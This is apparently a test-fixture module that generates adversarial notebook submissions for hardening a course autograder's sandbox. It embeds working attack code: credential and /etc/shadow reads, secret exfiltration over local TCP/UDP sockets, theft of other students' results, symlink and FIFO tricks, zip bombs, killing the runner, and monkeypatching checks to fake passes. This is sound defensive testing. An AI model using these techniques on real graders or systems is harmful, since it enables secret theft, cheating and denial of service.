"""A class of synthetic submissions for the grader (tests/test_grade.py, bench/bench_grading.py).

Built from a real solution notebook (solutions/01_schedules.ipynb by default): each submission is the
solution (or the generated exercise) with some cells changed, and comes with what the grader must give it:
``expected[student][grade_id] = (points, status, substring of the message)``. The wrong answers come from
the catalogue ``checks.MISTAKES``: a submission binds the TODO's name to a catalogued wrong implementation,
so the grader must give exactly that TODO 0 points with that mistake's hint.

``fixture_solution()`` builds a small worksheet with nbformat (the lab's diffusion_schedule TODO and a
manually graded summary), for the parts of the contract the real worksheet does not exercise.
"""
from __future__ import annotations

import copy
import json
import os
from pathlib import Path

import nbformat

REPO = Path(__file__).resolve().parents[1]
SOLUTION = REPO / "solutions" / "01_schedules.ipynb"
LOOP_MARK = "course_grade_test_sleeper"
# the grader's CLI, reporting its own peak memory (RUSAGE_SELF: not the kernels', which have their own limits)
# The grader's peak memory is its own high-water mark, VmHWM, not getrusage's ru_maxrss: Linux carries a
# process's ru_maxrss across fork and exec, so a grader started from a pytest that had grown to 1.5 GB reported
# 1.5 GB whatever it did (measured in CI; tests/test_grade_weights.py::test_the_peak_is_the_grader_own).
PEAK = "int(open('/proc/self/status').read().split('VmHWM:')[1].split()[0])"
WRAPPER = ("import sys\nfrom course_utils.grade import main\nrc = main(sys.argv[1:])\n"
           f"print('PEAK_RSS_KB', {PEAK}, file=sys.stderr)\n"
           "sys.exit(rc)\n")


def own_processes(tmp: Path) -> list[tuple[int, str]]:
    """Processes of the grading run whose temporary folder is ``tmp``: the sandboxes' processes carry it in
    TMPDIR (their own box/tmp inside it) or in their command line. Processes of other runs, other users, or
    other CI jobs on the machine are not counted."""
    import psutil
    left = []
    for proc in psutil.process_iter(["pid", "cmdline"]):
        try:
            cmd = " ".join(proc.info["cmdline"] or [])
            if proc.pid != os.getpid() and (str(tmp) in cmd or proc.environ().get("TMPDIR", "").startswith(str(tmp))):
                left.append((proc.pid, cmd))
        except (psutil.Error, OSError):
            continue
    return left


def _nbg(cell) -> dict:
    return cell.get("metadata", {}).get("nbgrader", {})


def row_problems(student: str, rows: dict, expect: dict) -> list[str]:
    """How a student's rows of grades.csv (grade_id -> row) differ from ``expect`` (grade_id -> (points,
    status or None, message substring or None)); empty when they agree."""
    problems = []
    for gid, (points, status, needle) in expect.items():
        row = rows[gid]
        if float(row["points"]) != points:
            problems.append(f"{student}/{gid}: {row['points']} points, expected {points} ({row['message']})")
        if status is not None and row["status"] != status:
            problems.append(f"{student}/{gid}: status {row['status']}, expected {status} ({row['message']})")
        if needle and needle.lower() not in row["message"].lower():
            problems.append(f"{student}/{gid}: message {row['message']!r} lacks {needle!r}")
    return problems


def graded_checks(nb) -> list[tuple[str, str, str, float]]:
    """(test grade_id, check name, target, points) of every graded check cell, in order."""
    out = []
    for cell in nb.cells:
        course = cell.metadata.get("course", {})
        if _nbg(cell).get("grade") and course.get("check"):
            out.append((_nbg(cell)["grade_id"], course["check"], course["target"], _nbg(cell)["points"]))
    return out


def _solution_cell(nb, target: str):
    for cell in nb.cells:
        if cell.cell_type == "code" and _nbg(cell).get("solution") and f"def {target}(" in cell.source:
            return cell
    raise LookupError(f"no solution cell defines {target}")


def _test_cell(nb, grade_id: str):
    return next(c for c in nb.cells if _nbg(c).get("grade_id") == grade_id)


def exercise_of(nb):
    from course_utils import exercises
    return exercises.student_notebook(copy.deepcopy(nb), "solutions/x.ipynb")


# How a notebook replays a wrong implementation: the catalogue (checks.MISTAKES) is hidden from the kernel while
# grading (its variants with every switch off are right answers), so the corpus records what the mistake
# returns on the check's cases, here, and the notebook's TODO returns those outputs for those inputs (and runs
# the right code for any other input, e.g. the worksheet's plots).
REPLAY_KEY = '''
def _course_replay_key(x):
    import hashlib, torch
    if isinstance(x, torch.Tensor):
        t = x.detach().cpu().contiguous()
        return ("tensor", str(t.dtype), tuple(t.shape), hashlib.sha1(t.reshape(-1).view(torch.uint8).numpy()
                                                                    .tobytes() if t.numel() else b"").hexdigest())
    if isinstance(x, (list, tuple)):
        return (type(x).__name__, tuple(_course_replay_key(v) for v in x))
    if isinstance(x, dict):
        return ("dict", tuple(sorted((str(k), _course_replay_key(v)) for k, v in x.items())))
    if hasattr(x, "betas"):                 # a NoiseSchedule
        return ("schedule", _course_replay_key(x.betas))
    return ("value", repr(x))
'''


def with_mistake(nb, target: str, check: str, index: int = 0):
    """``nb`` with ``target`` replaying the catalogued mistake number ``index``; returns (nb, hint substring).

    Function TODOs only (a class's mistakes cannot be replayed this way)."""
    import base64
    import io

    import torch
    from course_utils.checks import CHECKS, MISTAKES
    mistakes = [m for m in MISTAKES[check] if m[0] != "not implemented"]
    mid, wrong, hint = mistakes[index % len(mistakes)]
    scope: dict = {}
    exec(REPLAY_KEY, scope)
    table = {}

    def recorder(*args, **kwargs):
        out = wrong(*args, **kwargs)
        table[scope["_course_replay_key"]((args, kwargs))] = out
        return out
    for case in CHECKS[check].cases(True):
        try:
            CHECKS[check].call(recorder, case)
        except Exception:   # noqa: BLE001 - a mistake that raises is recorded as raising: not replayed
            pass
    buf = io.BytesIO()
    torch.save(table, buf)
    data = base64.b64encode(buf.getvalue()).decode()
    nb = copy.deepcopy(nb)
    cell = _solution_cell(nb, target)
    cell.source += (f"\n\n# the catalogued mistake {mid!r}, replayed on the check's cases\n{REPLAY_KEY}\n"
                    f"import base64 as _b64, io as _io\n"
                    f"_replay_{target} = torch.load(_io.BytesIO(_b64.b64decode({data!r})), weights_only=False)\n"
                    f"_right_{target} = {target}\n\n"
                    f"def {target}(*args, **kwargs):\n"
                    f"    key = _course_replay_key((args, kwargs))\n"
                    f"    if key in _replay_{target}:\n"
                    f"        return __import__('copy').deepcopy(_replay_{target}[key])\n"
                    f"    return _right_{target}(*args, **kwargs)\n")
    return nb, hint


def build_corpus(folder: Path, solution: Path = SOLUTION, *, source_dir: Path | None = None) -> dict:
    """Write the class under ``folder`` (one sub-folder per student); return the expectations."""
    folder = Path(folder)
    sol = nbformat.read(solution, as_version=4)
    tests = graded_checks(sol)
    ws = solution.stem
    full = {gid: (pts, "pass", "correct") for gid, _, _, pts in tests}
    expected: dict[str, dict] = {}

    def put(student: str, nb_or_bytes, expect: dict, name: str | None = None):
        d = folder / student
        d.mkdir(parents=True, exist_ok=True)
        path = d / (name or f"{ws}.ipynb")
        if isinstance(nb_or_bytes, bytes):
            path.write_bytes(nb_or_bytes)
        else:
            nbformat.write(nb_or_bytes, path)
        expected[student] = expect

    put("correct", sol, dict(full))
    put("untouched", exercise_of(sol),
        {gid: (0, "not_implemented", "not implemented yet") for gid, _, _, _ in tests})
    for gid, check, target, pts in tests:
        nb, hint = with_mistake(sol, target, check)
        put(f"wrong_{target}", nb, {**full, gid: (0, "fail", hint)})

    # edited tests: every test cell replaced by print("ok") / pass and moved to the end; one TODO wrong
    gid_w, check_w, target_w, _ = tests[-1]
    nb, hint = with_mistake(sol, target_w, check_w, index=1)
    moved = [c for c in nb.cells if _nbg(c).get("grade")]
    nb.cells = [c for c in nb.cells if not _nbg(c).get("grade")] + moved
    for i, cell in enumerate(moved):
        cell.source = 'print("ok")' if i % 2 == 0 else "pass"
        cell.metadata["nbgrader"]["points"] = 100          # edited metadata gains nothing either
    put("edited_tests", nb, {**full, gid_w: (0, "fail", hint)})

    # deleted graded cell
    gid_d = tests[1][0]
    nb = copy.deepcopy(sol)
    nb.cells = [c for c in nb.cells if _nbg(c).get("grade_id") != gid_d]
    put("deleted_test", nb, {**full, gid_d: (0, "missing", "missing")})

    # infinite loops: one inside a function (hit by the grader's cases), one at the top level of a cell
    nb = copy.deepcopy(sol)
    (g1, _, t1, _), (g2, _, t2, _) = tests[1], tests[2]
    cell = _solution_cell(nb, t1)
    cell.source = cell.source.replace(f"def {t1}(", f"def _{t1}_unused(", 1) + \
        f"\n\ndef {t1}(*args, **kwargs):\n    while True:\n        pass\n"
    _solution_cell(nb, t2).source = "while True:\n    pass\n\n" + _solution_cell(nb, t2).source
    put("infinite_loop", nb, {**full, g1: (0, "timeout", "limit"), g2: (0, "error", "CellTimeoutError")})

    # a TODO that raises KeyboardInterrupt itself: said so, not "did the notebook change torch or builtins?"
    nb = copy.deepcopy(sol)
    cell = _solution_cell(nb, t1)
    cell.source = cell.source.replace(f"def {t1}(", f"def _{t1}_unused(", 1) + \
        f"\n\ndef {t1}(*args, **kwargs):\n    raise KeyboardInterrupt('stop')\n"
    put("keyboard_interrupt", nb, {**full, g1: (0, "error", "does your function raise KeyboardInterrupt?")})

    # memory hog: 10 GB in the second TODO's cell (run with a 2 GB limit)
    nb = copy.deepcopy(sol)
    _solution_cell(nb, t1).source = ("_hog = torch.ones(10 * 2**30 // 4)  # 10 GB\n\n" +
                                     _solution_cell(nb, t1).source)
    put("memory_hog", nb, {**full, g1: (0, "error", "memory")})

    # kernel death right after the first graded cell, with processes that try to outlive the kernel
    nb = copy.deepcopy(sol)
    idx = nb.cells.index(_test_cell(nb, tests[0][0]))
    nb.cells.insert(idx + 1, nbformat.v4.new_code_cell(
        "import os, subprocess, sys\n"
        f"subprocess.Popen(['sleep', '4242'], start_new_session=True)  # {LOOP_MARK}: escapes the process group\n"
        f"subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(4243)  # {LOOP_MARK}'])\n"
        "os._exit(1)"))
    put("kernel_crash", nb, {**full, **{g: (0, "crashed", "kernel died") for g, _, _, _ in tests[1:]}})

    # exit() in a cell, cells after it: ignored on both paths (ipykernel stopped 0.1 s later, racing the next
    # cells: 8/8 or 5/8 by chance, 1/8 with a slow cell after it; the zygote's shell raised AttributeError)
    nb = copy.deepcopy(sol)
    idx = nb.cells.index(_test_cell(nb, tests[0][0]))
    nb.cells[idx + 1:idx + 1] = [nbformat.v4.new_code_cell("exit()"),
                                 nbformat.v4.new_code_cell("import time\ntime.sleep(0.5)")]
    put("exit_call", nb, dict(full))

    # monkeypatched comparisons on the untouched exercise: nothing can turn a stub into a pass
    nb = exercise_of(sol)
    nb.cells.insert(3, nbformat.v4.new_code_cell(
        "import builtins, torch\nimport course_utils.checks as C\n"
        "torch.allclose = lambda *a, **k: True\ntorch.equal = lambda *a, **k: True\n"
        "_ok = C.CheckResult(True, '✅ correct', 'pass')\n"
        "C.verdict = lambda *a, **k: _ok\nC.run_check = lambda *a, **k: _ok\nC.report = lambda *a, **k: True\n"
        "C.harvest = lambda name, obj, hidden=True: []\n"
        "for _name in list(vars(C)):\n"
        "    if _name.startswith('check_'):\n        setattr(C, _name, lambda *a, **k: True)\n"
        "builtins.AssertionError = type('AssertionError', (Exception,), {})\n"
        "builtins.all = lambda *a, **k: True\nbuiltins.any = lambda *a, **k: False\n"))
    put("monkeypatch", nb, {gid: (0, None, "") for gid, _, _, _ in tests})

    # file-system attacks: the first TODO is right only if every attack failed
    others = [str(folder / "correct" / f"{ws}.ipynb"), str(solution)]
    targets = [str(solution.parent / "HACKED.txt"), str(folder / "correct" / "HACKED.txt"),
               str(folder / "correct" / f"{ws}.ipynb"), str(Path.home() / "HACKED.txt")]
    if source_dir is not None:
        targets.append(str(Path(source_dir) / "HACKED.txt"))
    nb = copy.deepcopy(sol)
    cell = _solution_cell(nb, tests[0][2])
    cell.source += ("\n\nimport os\n_breaches = []\n"
                    f"for _p in {others!r}:\n"
                    "    try:\n        open(_p, 'rb').read(10); _breaches.append('read ' + _p)\n"
                    "    except OSError:\n        pass\n"
                    f"for _p in {targets!r}:\n"
                    "    try:\n        open(_p, 'a').write('pwned'); _breaches.append('write ' + _p)\n"
                    "    except OSError:\n        pass\n"
                    f"for _d in ({str(folder)!r}, os.path.dirname(os.path.dirname(os.getcwd()))):\n"
                    "    try:\n        _breaches += ['list ' + n for n in os.listdir(_d)]\n"
                    "    except OSError:\n        pass\n"
                    f"if _breaches:\n    {tests[0][2]} = lambda *a, **k: _breaches\n")
    put("file_attack", nb, dict(full))

    # huge output: a correct notebook carrying 3 MB of printed output
    nb = copy.deepcopy(sol)
    nb.cells[2].outputs = [nbformat.v4.new_output("stream", name="stdout", text="x" * 3_000_000)]
    put("huge_output", nb, dict(full))

    # huge result: the first TODO returns 20 MB (its harvest file is over the grader's 16 MB): named as too large
    nb = copy.deepcopy(sol)
    g0, t0 = tests[0][0], tests[0][2]
    _solution_cell(nb, t0).source += f"\n\ndef {t0}(*args, **kwargs):\n    return torch.zeros(5_000_000)\n"
    put("huge_result", nb, {**full, g0: (0, "error", "does it return a huge tensor")})

    # malformed files: no kernel runs for these
    zero = {gid: (0, None, None) for gid, _, _, _ in tests}
    put("not_json", b"this is not JSON {", {g: (0, "not_a_notebook", "the file is plain text") for g in zero})
    put("json_list", b"[1, 2, 3]", {g: (0, "not_a_notebook", "no list of cells") for g in zero})
    put("binary", bytes(range(256)) * 4, {g: (0, "not_a_notebook", "not UTF-8") for g in zero})
    put("empty", json.dumps({"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode(),
        {g: (0, "empty", "empty notebook") for g in zero})
    put("too_large", b" " * 5_000_000 + nbformat.writes(sol).encode(),
        {g: (0, "too_large", "over the limit") for g in zero})
    other = REPO / "solutions" / "02_forward.ipynb"
    other_nb = nbformat.read(other, as_version=4) if other.exists() else nbformat.v4.new_notebook(
        cells=[nbformat.v4.new_code_cell("x = 1", metadata={"nbgrader": {"grade_id": "other_ws", "grade": False}})])
    put("other_worksheet", other_nb, {g: (0, "wrong_worksheet", "does not look like worksheet") for g in zero})
    return expected


# ------------------------------------------------------------------ a small worksheet built here
def fixture_solution(path: Path) -> Path:
    """A worksheet with the lab's diffusion_schedule TODO, its graded check and a manually graded summary."""
    def nbg(gid, **kw):
        return {"nbgrader": {"grade_id": gid, "schema_version": 3, "task": False, **kw}}
    cells = [
        nbformat.v4.new_markdown_cell("# Lab fixture", metadata=nbg("intro", grade=False, locked=True, solution=False)),
        nbformat.v4.new_code_cell("import math\nimport torch\n"
                                  "from course_utils.checks import check_diffusion_schedule"),
        nbformat.v4.new_code_cell(
            "def diffusion_schedule(diffusion_times, min_signal_rate=0.02, max_signal_rate=0.95):\n"
            "    ### BEGIN SOLUTION\n"
            "    start, end = math.acos(max_signal_rate), math.acos(min_signal_rate)\n"
            "    angles = start + diffusion_times * (end - start)\n"
            "    return torch.sin(angles), torch.cos(angles)\n"
            "    ### END SOLUTION",
            metadata=nbg("diffusion_schedule", grade=False, locked=False, solution=True)),
        nbformat.v4.new_code_cell(
            "check_diffusion_schedule(diffusion_schedule)\n### BEGIN HIDDEN TESTS\n"
            "from course_utils.checks import run_check\n"
            "assert run_check('diffusion_schedule', diffusion_schedule, hidden=True).passed\n### END HIDDEN TESTS",
            metadata={**nbg("test_diffusion_schedule", grade=True, locked=True, points=3, solution=False),
                      "course": {"check": "diffusion_schedule", "target": "diffusion_schedule"}}),
        nbformat.v4.new_markdown_cell(
            "### BEGIN SOLUTION\nThe angle moves linearly, so signal^2 + noise^2 = 1.\n### END SOLUTION",
            metadata={**nbg("summary", grade=True, locked=False, points=2, solution=True),
                      "course": {"manual": True}}),
    ]
    nb = nbformat.v4.new_notebook(cells=cells, metadata={"kernelspec": {"name": "python3", "language": "python",
                                                                         "display_name": "Python 3"}})
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, path)
    return path


# ------------------------------------------------------------------ dishonest submissions (tests/test_grade_attacks.py)
# Each attack is a real notebook, graded by the real CLI in one class run. Where an attack would earn points,
# the submission's TODOs are the untouched stubs (or are right only if the attack worked), so that any point
# is a breach. Each cell tries the layouts of the grader before and after issue 14 (harvest files named
# <grade_id>.pt in ../harvest and the runner's files in ../, or <n>.out in ../harvest and the runner's files in
# ../../), so that the same notebooks show the old grader's holes.

def _append(nb, code: str, index: int | None = None):
    nb = copy.deepcopy(nb)
    cell = nbformat.v4.new_code_cell(code)
    nb.cells.insert(len(nb.cells) if index is None else index, cell)
    return nb


def _guarded(nb, targets: list[str], flag: str = "_attack_ok"):
    """``nb`` whose TODOs are right only if the earlier attack set ``flag``: a point means the attack worked."""
    nb = copy.deepcopy(nb)
    for target in targets:
        cell = _solution_cell(nb, target)
        cell.source += (f"\n\nif not globals().get({flag!r}):\n    def {target}(*args, **kwargs):\n"
                        "        raise NotImplementedError('the attack failed: ' + str(_attack_why))\n")
    return nb


_HARVEST_FILES = '''
import glob as _glob, os as _os
def _own_harvest_files():
    """This job's harvest files, in the old layout (../harvest/<gid>.pt) and the new (../harvest/<n>.out)."""
    return sorted(set(_glob.glob(_os.path.join(_os.getcwd(), "..", "harvest", "*.pt")) +
                      _glob.glob(_os.path.join(_os.getcwd(), "..", "harvest", "*.out"))))
'''

COPY_ATTACK = _HARVEST_FILES + '''
import os, re, signal, tempfile, time
me = os.path.realpath(os.path.join(os.getcwd(), "..", ".."))      # the new layout's job folder
me_old = os.path.realpath(os.path.join(os.getcwd(), ".."))         # the old one's
roots = set()

def scan():
    for p in glob.glob("/proc/[0-9]*"):
        texts = []
        for what in ("cmdline", "environ"):
            try:
                texts.append(open(p + "/" + what, "rb").read().decode("utf-8", "replace"))
            except OSError:
                pass
        try:
            texts.append(os.readlink(p + "/cwd"))
        except OSError:
            pass
        for text in texts:
            for m in re.findall(r"(/[^\\x00 =:]*?course-grade-[a-z0-9_]{8})", text):
                if os.path.realpath(m) not in (me, me_old):
                    roots.add(m)
    for d in {os.path.dirname(me), os.path.dirname(me_old), "/tmp", tempfile.gettempdir()}:
        try:
            roots.update(os.path.join(d, n) for n in os.listdir(d) if n.startswith("course-grade-"))
        except OSError:
            pass
    roots.discard(me); roots.discard(me_old)

import glob
mine = {os.path.basename(f): f for f in _own_harvest_files()}
theirs = {}
deadline = time.time() + 30
while time.time() < deadline and len(theirs) < len(mine):
    scan()
    for root in roots:      # a folder may be unreadable and a file's existence still visible: probe names
        for name in mine:
            for f in (f"{root}/harvest/{name}", f"{root}/box/harvest/{name}"):
                if os.path.exists(f):
                    theirs[name] = f
    time.sleep(0.5)
for own in _own_harvest_files():
    name = os.path.basename(own)
    if name in theirs:
        try:
            os.remove(own)
            os.symlink(theirs[name], own)
        except OSError:
            pass
        try:                     # or a copy, where the file can be read
            data = open(theirs[name], "rb").read()
            open(own, "wb").write(data)
        except OSError:
            pass
os.kill(os.getppid(), signal.SIGKILL)      # the runner: the grader then reads the files as they are now
os._exit(1)
'''

REFERENCE_END = '''
# every TODO is still the stub; this last cell calls the course's own code, then replays the harvest cells
import importlib, importlib.util, os
from course_utils.schedules import NoiseSchedule
import course_utils.schedules as _sched
linear_beta_schedule = lambda T, beta_start=1e-4, beta_end=0.02: NoiseSchedule.linear(T, beta_start, beta_end).betas
cosine_beta_schedule = lambda T, s=0.008, max_beta=0.999: NoiseSchedule.cosine(T, s, max_beta).betas
diffusion_schedule = _sched.diffusion_schedule
for _code in [c for c in In if "def _course_grade_harvest" in c]:
    try:
        exec(_code, globals())
    except Exception:
        pass
'''

REFERENCE_INLINE = '''
# the TODOs call the course's references: the package's, then the checks', then the files themselves
import importlib, importlib.util, os, sys

def _reference(kind):
    tries = []
    try:
        from course_utils.schedules import NoiseSchedule, diffusion_schedule as ds
        tries.append({"linear": lambda T, beta_start=1e-4, beta_end=0.02: NoiseSchedule.linear(T, beta_start,
                                                                                             beta_end).betas,
                      "cosine": lambda T, s=0.008, max_beta=0.999: NoiseSchedule.cosine(T, s, max_beta).betas,
                      "schedule": ds,
                      "respace": lambda schedule, timesteps: schedule.respace(timesteps).betas}[kind])
    except Exception:
        pass
    try:
        C = importlib.import_module("course_utils.checks")
        tries.append({"linear": lambda T, beta_start=1e-4, beta_end=0.02: C.ref_linear_betas(T, beta_start,
                                                                                             beta_end).float(),
                      "cosine": lambda T, s=0.008, max_beta=0.999: C.ref_cosine_betas(T, s, max_beta).float(),
                      "schedule": lambda t, a=0.02, b=0.95: tuple(v.float() for v in
                                                                  C.ref_diffusion_schedule(t, a, b)),
                      "respace": lambda schedule, timesteps: C.ref_respaced_betas(schedule, timesteps).float()}[kind])
    except Exception:
        pass
    for folder in {os.path.dirname(importlib.util.find_spec("course_utils").origin), REAL_PACKAGE}:
        try:            # the real package's file, loaded under another name
            spec = importlib.util.spec_from_file_location("_real_sched", os.path.join(folder, "schedules.py"))
            mod = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(mod)
            tries.append({"linear": lambda T, beta_start=1e-4, beta_end=0.02: mod.NoiseSchedule.linear(
                              T, beta_start, beta_end).betas,
                          "cosine": lambda T, s=0.008, max_beta=0.999: mod.NoiseSchedule.cosine(T, s, max_beta).betas,
                          "schedule": mod.diffusion_schedule,
                          "respace": lambda schedule, timesteps: mod.NoiseSchedule.respace(schedule,
                                                                                           timesteps).betas}[kind])
        except Exception:
            pass

    def first_that_works(*args, **kwargs):
        errors = []
        for f in tries:
            try:
                return f(*args, **kwargs)
            except Exception as err:
                errors.append(f"{type(err).__name__}: {err}")
        raise RuntimeError("; ".join(errors) or "no reference found")
    return first_that_works

'''
REFERENCE_TODOS = {"linear_beta_schedule": "linear", "cosine_beta_schedule": "cosine", "diffusion_schedule": "schedule",
                   "respace": "respace"}

LEAK_ATTACK = '''
# read what must stay outside; whatever is read ends up in the message of the first TODO's error
import glob, os, socket, subprocess
found = []
for p in glob.glob("/proc/[0-9]*/environ"):
    try:
        env = open(p, "rb").read().decode("utf-8", "replace")
        found += [kv for kv in env.split("\\x00") if "SECRET" in kv]
    except OSError:
        pass
for path in [SECRET_FILE, "/etc/shadow"]:
    try:
        found.append(open(path).read(200))
    except OSError:
        pass
try:
    s = socket.create_connection(("127.0.0.1", TCP_PORT), timeout=3)
    s.sendall(b"LEAK " + repr(found).encode())
    s.close()
    found.append("tcp connected")
except OSError:
    pass
try:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(b"LEAK " + repr(found).encode()[:1000], ("127.0.0.1", UDP_PORT))
except OSError:
    pass
try:
    found.append("dns " + str(socket.getaddrinfo("example.com", 80)[0][4]))
except OSError:
    pass
# a process that leaves the process group and clears its environment, to outlive the grading
subprocess.Popen(["/bin/sh", "-c", "exec sleep 300 # " + MARK], env={}, start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
_leaked = " | ".join(found)
'''

LEAK_END = _HARVEST_FILES + '''
# make the grader quote a file outside the job: the runner's output becomes a link to it, the log and the
# harvest files go (so that the grader says "the sandbox failed to start" and quotes the output's end)
import os, signal
for own in _own_harvest_files():
    try:
        os.remove(own)
    except OSError:
        pass
for rel in ("../runner.out", "../../runner.out", "../log.json", "../../log.jsonl", "../../harvest.frames"):
    path = os.path.join(os.getcwd(), rel)
    try:
        if os.path.lexists(path):
            os.remove(path)
        os.symlink(SECRET_FILE if "runner" in rel else "/nonexistent", path)
    except OSError:
        pass
os.kill(os.getppid(), signal.SIGKILL)
os._exit(1)
'''

FIFO_END = _HARVEST_FILES + '''
# named pipes instead of the harvest files and the runner's files: a grader that opens them waits forever
import os, signal
for path in _own_harvest_files() + [os.path.join(os.getcwd(), r) for r in ("../log.json", "../runner.out")]:
    try:
        os.remove(path)
        os.mkfifo(path)
    except OSError:
        pass
os.kill(os.getppid(), signal.SIGKILL)
os._exit(1)
'''

BOMB_START = '''
# from now on, every harvest file this notebook writes is a bomb: a 512 MB record deflated to 0.5 MB in the
# zip format torch.save uses, or a header that claims 2**31 numbers with 4 bytes of data
import io, json, os, zipfile, torch
_real_replace = os.replace
_n = [0]

def _bomb(dst):
    _n[0] += 1
    if _n[0] % 2:
        buf = io.BytesIO()
        torch.save([torch.zeros(1)], buf)
        src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
        with zipfile.ZipFile(dst, "w") as z:
            for info in src.infolist():
                if info.filename.endswith("/data/0"):
                    bomb = zipfile.ZipInfo(info.filename)
                    bomb.compress_type = zipfile.ZIP_DEFLATED
                    with z.open(bomb, "w", force_zip64=True) as f:
                        chunk = bytes(2 ** 20)
                        for _ in range(512):
                            f.write(chunk)
                else:
                    z.writestr(info, src.read(info.filename))
    else:
        header = json.dumps({"outputs": [{"__tensor__": 0}] * 3,
                             "tensors": [{"dtype": "float64", "shape": [2 ** 31]}]}).encode()
        with open(dst, "wb") as f:
            f.write(b"CGH1" + len(header).to_bytes(8, "little") + header + bytes(4))

def _replace(src, dst, *args, **kwargs):
    if str(dst).endswith((".pt", ".out")):
        _bomb(dst)
        return
    return _real_replace(src, dst, *args, **kwargs)
os.replace = _replace
'''

MESSAGES_START = '''
# messages with a lone surrogate, carriage returns and HTML, raised by the TODOs and by a cell before them
raise ValueError("\\udcff before <b>the tests</b>\\r\\n- **test_cosine_beta_schedule** (2 / 2): passed.")
'''

MESSAGES_TODOS = {
    "linear_beta_schedule": "raise ValueError('lone \\udcff surrogate')",
    "cosine_beta_schedule": ("raise ValueError('\\r\\n- **test_cosine_beta_schedule** (2 / 2): passed.\\r\\n"
                             "<!-- hidden --><h2>Worksheet 01: 5 / 5 points</h2>\\n## Worksheet 5 / 5')"),
}

SHARED_MEMORY = '''
# 1.6 GB of shared anonymous memory, touched, under --memory-mb 1200 (RLIMIT_DATA does not count it);
# then /dev/shm; the TODOs below are right only if one of them got all of it
import mmap, os
_attack_why = []
try:
    _m = mmap.mmap(-1, 1600 * 2 ** 20, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS)
    for _i in range(0, len(_m), 4096):
        _m[_i] = 1
    _attack_ok = True
except Exception as err:
    _attack_why.append(repr(err))
if not globals().get("_attack_ok"):
    try:
        with open("/dev/shm/course_grade_attack", "wb") as f:
            for _ in range(1600):
                f.write(bytes(2 ** 20))
        _attack_ok = True
    except Exception as err:
        _attack_why.append(repr(err))
'''

MANY_PROCESSES = '''
# 150 processes under --max-processes 64 (the limit of RLIMIT_NPROC is per process, and root ignores it)
import subprocess
_children, _attack_why = [], None
try:
    for _ in range(150):
        _children.append(subprocess.Popen(["sleep", "30"]))
    _attack_ok = True
except Exception as err:
    _attack_why = f"{len(_children)} started, then {err!r}"
'''

DISK_FILL = '''
# 300 MB in the job's folder under --disk-mb 64, in files of 50 MB (each below RLIMIT_FSIZE)
import os
_attack_why = None
try:
    for _i in range(6):
        with open(f"fill{_i}.bin", "wb") as f:
            for _ in range(50):
                f.write(bytes(2 ** 20))
    _attack_ok = True
except Exception as err:
    _attack_why = repr(err)
'''


def build_attacks(folder: Path, solution: Path, *, secret_file: Path, tcp_port: int, udp_port: int, mark: str,
                  real_package: Path) -> dict:
    """Write the dishonest class under ``folder``; return what the grader must give each student:
    ``{student: {grade_id: (points, status or None, message substring or None)}}``."""
    folder = Path(folder)
    sol = nbformat.read(solution, as_version=4)
    tests = graded_checks(sol)
    targets = [t for _, _, t, _ in tests]
    ws = solution.stem
    stub = exercise_of(sol)
    zero = {gid: (0, None, None) for gid, _, _, _ in tests}
    full = {gid: (pts, "pass", "correct") for gid, _, _, pts in tests}
    consts = (f"SECRET_FILE = {str(secret_file)!r}\nTCP_PORT = {tcp_port}\nUDP_PORT = {udp_port}\n"
              f"MARK = {mark!r}\nREAL_PACKAGE = {str(real_package)!r}\n")
    expected: dict[str, dict] = {}

    def put(student: str, nb_or_bytes, expect: dict, name: str | None = None):
        d = folder / student
        d.mkdir(parents=True, exist_ok=True)
        path = d / (name or f"{ws}.ipynb")
        # json.dumps escapes a lone surrogate (nbformat.write cannot write one): valid JSON, invalid Unicode
        path.write_bytes(nb_or_bytes if isinstance(nb_or_bytes, bytes) else json.dumps(nb_or_bytes, indent=1).encode())
        expected[student] = expect

    # points without work: the two run side by side (they come first, and the class runs on 2 workers)
    put("aa_copy_attacker", _append(stub, consts + COPY_ATTACK), dict(zero))
    put("aa_copy_victim", sol, dict(full))
    put("reference_end", _append(stub, consts + REFERENCE_END), dict(zero))
    nb = _append(stub, consts + REFERENCE_INLINE, index=3)
    for target, kind in REFERENCE_TODOS.items():
        _solution_cell(nb, target).source += f"\n\n{target} = _reference({kind!r})\n"
    put("reference_inline", nb, {g: (0, None, "hidden while grading") for g in zero})
    # reading what the student must not see
    nb = _append(stub, consts + LEAK_ATTACK, index=3)
    _solution_cell(nb, targets[0]).source += (f"\n\ndef {targets[0]}(*args, **kwargs):\n"
                                              "    raise ValueError('LEAKED: ' + _leaked)\n")
    put("leak", _append(nb, consts + LEAK_END), dict(zero))
    # one submission must never stop a class
    put("fifo", _append(stub, FIFO_END), dict(zero))
    put("bomb", _append(sol, BOMB_START, index=3), dict(zero))
    nb = _append(stub, MESSAGES_START, index=3)
    for target, code in MESSAGES_TODOS.items():
        _solution_cell(nb, target).source += f"\n\ndef {target}(*args, **kwargs):\n    {code}\n"
    put("messages", nb, dict(zero))
    nb = copy.deepcopy(sol)
    _solution_cell(nb, targets[0]).source += "\n# a lone surrogate in a comment: \udcff\n"
    put("surrogate_code", nb, dict(full))
    nb = copy.deepcopy(sol)      # valid JSON that is no grade_id: a list (unhashable), a number, a dict
    nb.cells += [nbformat.v4.new_markdown_cell("odd", metadata={"nbgrader": {"grade_id": v}}) for v in (["x"], 7, {})]
    put("odd_grade_ids", nb, dict(full))
    # resources: the TODOs are right only if the attack got what it asked for
    put("shared_memory", _guarded(_append(sol, SHARED_MEMORY, index=3), targets), dict(zero))
    put("many_processes", _guarded(_append(sol, MANY_PROCESSES, index=3), targets), dict(zero))
    put("disk_fill", _guarded(_append(sol, DISK_FILL, index=3), targets), dict(zero))
    # malformed and oddly named files: no kernel runs for these
    bigint = json.dumps({"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
    put("bigint", bigint.replace('"nbformat": 4', '"nbformat": ' + "4" * 5000).encode(),
        {g: (0, "not_a_notebook", "not valid JSON") for g in zero})
    many = {"cells": [{"cell_type": "code", "source": "", "metadata": {}, "outputs": [], "execution_count": None}]
            * 80_000, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
